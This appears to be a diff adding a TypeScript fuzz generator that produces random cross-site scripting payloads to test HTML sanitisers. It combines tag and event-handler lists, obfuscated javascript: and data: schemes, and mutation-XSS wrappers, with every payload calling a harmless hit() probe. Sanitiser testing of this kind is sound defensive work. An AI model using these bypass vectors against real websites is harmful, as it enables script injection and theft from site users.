@@ -1,0 +1,139 @@
+/** What a payload calls when it runs: `hit` of the page, or of the one around its frame. */
+const CALL = "(self.hit||top.hit)()";
+
+const TAGS = [
+	...[
+		"img",
+		"svg",
+		"math",
+		"iframe",
+		"object",
+		"embed",
+		"video",
+		"audio",
+		"body",
+		"input",
+		"select",
+		"textarea",
+		"form",
+	],
+	...[
+		"a",
+		"style",
+		"link",
+		"base",
+		"table",
+		"td",
+		"marquee",
+		"template",
+		"noscript",
+		"details",
+		"button",
+		"p",
+		"b",
+		"x",
+	],
+] as const;
+const HANDLERS = [
+	...["onerror", "onload", "onfocus autofocus tabindex=1 onfocus", "ontoggle", "onclick", "onmouseover", "onbegin"],
+	...[
+		"onanimationstart",
+		"onpointerenter",
+		"onscroll",
+		"ONERROR",
+		"on\terror",
+		"/onload",
+		"oncontentvisibilityautostatechange",
+	],
+] as const;
+const ADDRESSES = [
+	"src",
+	"href",
+	"xlink:href",
+	"action",
+	"formaction",
+	"data",
+	"srcdoc",
+	"poster",
+	"background",
+	"srcset",
+];
+const SCHEMES = [
+	...[
+		"javascript:",
+		"JaVaScRiPt:",
+		"java\tscript:",
+		"java\nscript:",
+		"\u0001javascript:",
+		" javascript:",
+		"javascript&colon;",
+	],
+	...[
+		"&#106;avascript:",
+		"&#x6A;avascript:",
+		"&#0000106avascript:",
+		"java&Tab;script:",
+		"vbscript:",
+		"javascript://%0a",
+	],
+	...["data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD50b3AuaGl0KCk8L3NjcmlwdD4=", "//evil.example/"],
+] as const;
+const QUOTES = ['"', "'", "", "`"] as const;
+/** Where parsers and sanitisers are known to disagree about what is text and what is markup. */
+const AROUND: readonly (readonly [before: string, after: string])[] = [
+	["", ""],
+	["<svg><style>", "</style></svg>"],
+	["<math><mtext><table><mglyph><style><!--</style>", ""],
+	['<noscript><p title="</noscript>', '">'],
+	["<style><!--</style>", "-->"],
+	["<!--><", "-->"],
+	["<title><!--</title>", "-->"],
+	["<textarea></textarea ", "</textarea>"],
+	["<select><template>", "</template></select>"],
+	["<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style>", ""],
+	["<svg><p><style><g title='</style>", "'>"],
+	["<svg><foreignObject>", "</foreignObject></svg>"],
+	["<xmp><p title='</xmp>", "'>"],
+	["<![CDATA[", "]]>"],
+	["<p title='", "'>"],
+	["&lt;", "&gt;"],
+	["<a href='x", "'>"],
+	["<img alt='", "' src=x>"],
+] as const;
+const TEMPLATES = [
+	`<script>${CALL}</script>`,
+	`<scr<script>ipt>${CALL}</scr</script>ipt>`,
+	`<script\u0000>${CALL}</script>`,
+	`<script/x>${CALL}</script\t>`,
+	`<svg><script>${CALL}</script></svg>`,
+	`<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
+	`<svg><a><animate attributeName=href values=javascript:${CALL}/><text y=20>x</text></a></svg>`,
+	`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=${CALL}/></svg>#x"/>`,
+	`<iframe srcdoc="&lt;script&gt;${CALL}&lt;/script&gt;"></iframe>`,
+	`<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
+	`<object data="data:text/html,<script>${CALL}</script>"></object>`,
+	`<details open ontoggle=${CALL}>x</details>`,
+	`<img src=x onerror=${CALL}//`,
+	`<img src="x\` \`<script>${CALL}</script>"\` \`>`,
+	`<<img src=x onerror=${CALL}>`,
+	`<img/src=x/onerror=${CALL}>`,
+	`<a href="javascript:${CALL}" autofocus>x</a>`,
+	`<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${CALL}">x</b>`,
+] as const;
+
+/** Payloads of tags × handlers or addresses × encodings, each alone and inside what parsers disagree about. */
+export function xssPayload(random: () => number): string {
+	const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
+	const [before, after] = pick(AROUND);
+	const quote = pick(QUOTES);
+	const kind = random();
+	const tag = random() < 0.3 ? pick(TAGS).toUpperCase() : pick(TAGS);
+	const gap = pick([" ", "/", "\t", "\n", "\f", " x='' "]);
+	if (kind < 0.3) return before + pick(TEMPLATES) + after;
+	const call = random() < 0.2 ? CALL.replace("hit", "h\\u0069t") : CALL;
+	const attribute =
+		kind < 0.65
+			? `src=x ${pick(HANDLERS)}=${quote}${call}${quote}`
+			: `${pick(ADDRESSES)}=${quote}${pick(SCHEMES)}${call}${quote}`;
+	return `${before}<${tag}${gap}${attribute}>x</${tag}>${after}`;
+}
